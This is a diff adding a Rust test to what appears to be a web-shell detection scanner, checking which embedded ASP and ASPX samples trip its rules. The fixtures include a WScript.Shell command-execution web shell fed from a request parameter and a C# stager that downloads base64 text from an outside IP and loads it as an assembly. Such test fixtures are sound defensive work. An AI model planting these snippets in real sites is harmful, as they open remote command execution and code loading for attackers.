@@ -1310,6 +1310,35 @@ fn wscript_shell_needs_a_command_from_the_caller() {
     );
 }
 
+/// Second read of stop 27, left then and done at stop 28.
+#[test]
+fn stop_28_left_from_the_second_read() {
+    // a dead string holding a loopback ping above a call that builds its own command is no
+    // wait; the wait that builds its ping on the call's line still is
+    let dead = "<%\nd = \"ping -n 2 127.0.0.1\"\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c \" & k(x), 0, True\nx = Request(\"c\")\n%>\n";
+    assert!(
+        hits(dead).contains("EXRAY_ASP_WScript_Shell_Exec"),
+        "{:?}",
+        hits(dead)
+    );
+    let wait = "<%\nid = Request(\"id\")\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"%ComSpec% /c ping -n \" & n & \" 127.0.0.1 > nul\", 0, True\n%>\n";
+    assert!(hits(wait).is_empty(), "{:?}", hits(wait));
+    // a stager that fetches its assembly as base64 text
+    let b64 = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var t = new System.Net.WebClient().DownloadString(\"http://198.51.100.7/a.txt\");\n var a = System.Reflection.Assembly.Load(Convert.FromBase64String(t));\n a.EntryPoint.Invoke(null, new object[] { new string[0] });\n}\n</script>\n";
+    assert!(
+        hits(b64).contains("EXRAY_NET_Remote_Assembly_Loader"),
+        "{:?}",
+        hits(b64)
+    );
+    // a page that reads a feed as text and loads a formatter by a configured name is no stager
+    let feed = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object o, EventArgs e) {\n var t = new System.Net.WebClient().DownloadString(feedUrl);\n var img = Convert.FromBase64String(Request.Form[\"logo\"]);\n var f = Activator.CreateInstance(Type.GetType(cfg.Formatter));\n}\n</script>\n";
+    assert!(
+        !hits(feed).contains("EXRAY_NET_Remote_Assembly_Loader"),
+        "{:?}",
+        hits(feed)
+    );
+}
+
 /// A server-variable loop a developer commented out prints nothing; the same loop as a
 /// statement after `:` or on its own line does.
 #[test]
